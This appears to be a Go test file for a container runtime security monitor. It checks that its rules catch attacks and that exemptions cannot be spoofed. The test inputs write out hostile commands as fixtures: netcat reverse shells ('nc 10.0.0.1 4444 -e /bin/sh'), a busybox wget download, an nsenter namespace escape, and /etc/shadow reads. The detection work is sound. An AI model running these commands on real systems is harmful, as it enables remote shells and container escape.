package engine

import (
	"slices"
	"testing"

	"github.com/podguard/podguard/daemon/catalog"
	"github.com/podguard/podguard/probes"
)

// TestExemptionsAreKeyedOnFiles: a rule is switched off only for the
// tool's own image file, never for a name an attacker can choose.
func TestExemptionsAreKeyedOnFiles(t *testing.T) {
	shadow := func(w *world, pid uint32) []string { return w.handle(open(pid, "/etc/shadow", 0, 0)) }
	cases := []struct {
		name   string
		exec   *probes.Record
		exempt bool
	}{
		{"sshd from the image", exec(200, 100, "/usr/sbin/sshd", "sshd"), true},
		{"a symlink named sshd to busybox", withComm(exec(200, 100, "/bin/busybox", "sshd"), "sshd"), false},
		{"an upper-layer file named sshd", withOrigin(exec(200, 100, "/usr/sbin/sshd", "sshd"), probes.OriginUpper), false},
		{"an image sshd copied up (overwritten)", withCopyUp(exec(200, 100, "/usr/sbin/sshd", "sshd")), false},
		{"sshd on a tmpfs", withOrigin(exec(200, 100, "/mnt/sshd", "sshd"), probes.OriginTmpfs), false},
		{"sshd of unknown origin", withOrigin(exec(200, 100, "/usr/sbin/sshd", "sshd"), probes.OriginUnknown), false},
	}
	for _, c := range cases {
		w := newWorld(t)
		w.handle(&probes.Record{Kind: probes.KindFork, PID: 100, TGID: 100, CgroupID: cg, ChildPID: 200})
		w.handle(c.exec)
		got := slices.Contains(shadow(w, 200), "shadow-file-read")
		if got == c.exempt {
			t.Errorf("%s: shadow-file-read raised %v, want %v", c.name, got, !c.exempt)
		}
	}

	// A package manager switches write-below rules off for its children
	// only when it is the image's package manager file.
	for _, c := range []struct {
		name   string
		exec   *probes.Record
		exempt bool
	}{
		{"apk from the image", exec(200, 100, "/sbin/apk", "apk", "add", "curl"), true},
		{"an upper-layer file named apk", withOrigin(exec(200, 100, "/sbin/apk", "apk", "add", "curl"), probes.OriginUpper), false},
		{"a symlink named apk to busybox", withComm(exec(200, 100, "/bin/busybox", "apk", "add"), "apk"), false},
	} {
		w := newWorld(t)
		w.handle(&probes.Record{Kind: probes.KindFork, PID: 100, TGID: 100, CgroupID: cg, ChildPID: 200})
		w.handle(c.exec)
		w.handle(&probes.Record{Kind: probes.KindFork, PID: 200, TGID: 200, CgroupID: cg, ChildPID: 201})
		w.handle(exec(201, 200, "/bin/sh", "sh", "-c", "post-install"))
		got := slices.Contains(w.handle(open(201, "/usr/bin/evil", 0x241, 0o755)), "write-below-binary-dir")
		if got == c.exempt {
			t.Errorf("%s: write-below-binary-dir raised %v, want %v", c.name, got, !c.exempt)
		}
	}
}

func withCopyUp(ev *probes.Record) *probes.Record {
	ev.Origin, ev.CopiedUp = probes.OriginUpper, true
	return ev
}

// TestMultiCallAndLoaderAreSeen: what a multi-call binary or the loader
// will run is detected whatever the executed file is called.
func TestMultiCallAndLoaderAreSeen(t *testing.T) {
	cases := []struct {
		name string
		ev   *probes.Record
		rule string
	}{
		{"busybox nc -e", exec(200, 100, "/bin/busybox", "busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"), "netcat-remote-exec"},
		{"busybox wget", exec(200, 100, "/bin/busybox", "busybox", "wget", "http://e/x"), "downloader-in-container"},
		{"busybox nsenter", exec(200, 100, "/bin/busybox", "busybox", "nsenter", "-t", "1", "-m"), "namespace-escape"},
		{"a renamed busybox called as busybox-x", exec(200, 100, "/bin/busybox-x", "busybox-x", "nc", "1.2.3.4", "1", "-e", "sh"), "netcat-remote-exec"},
		{"ld.so runs nc", exec(200, 100, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "--library-path", "/x", "/usr/bin/nc", "-e", "/bin/sh"), "netcat-remote-exec"},
		{"ld.so runs a program", exec(200, 100, "/lib/ld-musl-x86_64.so.1", "ld", "/bin/sh"), "loader-runs-program"},
	}
	for _, c := range cases {
		w := newWorld(t)
		if got := w.handle(c.ev); !slices.Contains(got, c.rule) {
			t.Errorf("%s: rules %v, want %s", c.name, got, c.rule)
		}
	}
	// near miss: ld.so --list (ldd) and a busybox applet doing nothing suspicious
	w := newWorld(t)
	if got := w.handle(exec(200, 100, "/lib/ld-musl-x86_64.so.1", "ld", "--list")); len(got) > 0 {
		t.Errorf("ld.so --list raised %v", got)
	}
	if got := w.handle(exec(201, 100, "/bin/busybox", "busybox", "ls", "/")); len(got) > 0 {
		t.Errorf("busybox ls raised %v", got)
	}
}

// TestReverseShellByBehaviour: any program started with stdin and stdout
// (or stderr) on an inet socket is a reverse shell, whatever its name; a
// shell with a pipe on stdin is not.
func TestReverseShellByBehaviour(t *testing.T) {
	w := newWorld(t)
	withInet := func(ev *probes.Record, bits uint8) *probes.Record {
		ev.StdioInet = bits
		if bits&3 != 0 {
			ev.Flags |= probes.FlagInetStdio
		}
		return ev
	}
	if got := w.handle(withInet(exec(200, 100, "/usr/lib/x/worker", "innocent"), 1|4)); !slices.Contains(got, "reverse-shell") {
		t.Errorf("stdin+stderr socket for any program: %v", got)
	}
	if got := w.handle(withInet(exec(201, 100, "/bin/busybox", "busybox", "sh"), 1)); !slices.Contains(got, "reverse-shell") {
		t.Errorf("busybox sh with a socket on stdin: %v", got)
	}
	if got := w.handle(withInet(exec(202, 100, "/usr/lib/x/worker", "worker"), 2)); slices.Contains(got, "reverse-shell") {
		t.Errorf("a non-shell with only stdout on a socket raised %v", got)
	}
	if got := w.handle(withFlags(exec(203, 100, "/bin/sh", "sh", "-c", "cat"), probes.FlagStdinSock)); len(got) > 0 {
		t.Errorf("a shell with a unix socket or pipe on stdin raised %v", got)
	}
}

// TestTruncatedArgvIsConservative: a netcat or shell whose argv was cut
// (and could not be read again) is judged as if the cut part held -e.
func TestTruncatedArgvIsConservative(t *testing.T) {
	w := newWorld(t)
	ev := exec(200, 100, "/bin/sh", "sh", "-c", "sleep 1 #padding")
	ev.ArgsTruncated = true
	if got := w.handle(ev); !slices.Contains(got, "netcat-remote-exec") {
		t.Errorf("truncated shell argv: %v", got)
	}
	ev = exec(201, 100, "/bin/ls", "ls", "-l")
	ev.ArgsTruncated = true
	if got := w.handle(ev); slices.Contains(got, "netcat-remote-exec") {
		t.Errorf("truncated ls argv raised %v", got)
	}
}

// TestEntrypointReexecIsJudged: the entrypoint as the runtime started it
// is exempt from drift; a dropped file it executes later is not.
func TestEntrypointReexecIsJudged(t *testing.T) {
	e := New(fakeResolver{initPID: 100}, Self{PID: 7})
	e.SetRules(allRules(catalog.Log))
	w := &world{t: t, e: e}
	if got := w.handle(withOrigin(exec(100, 50, "/data/app", "app"), probes.OriginHost)); slices.Contains(got, "container-drift") {
		t.Errorf("the entrypoint from a volume raised %v", got)
	}
	if got := w.handle(withOrigin(exec(100, 50, "/tmp/dropped", "dropped"), probes.OriginUpper)); !slices.Contains(got, "container-drift") {
		t.Errorf("the entrypoint executing a dropped file: %v", got)
	}
}
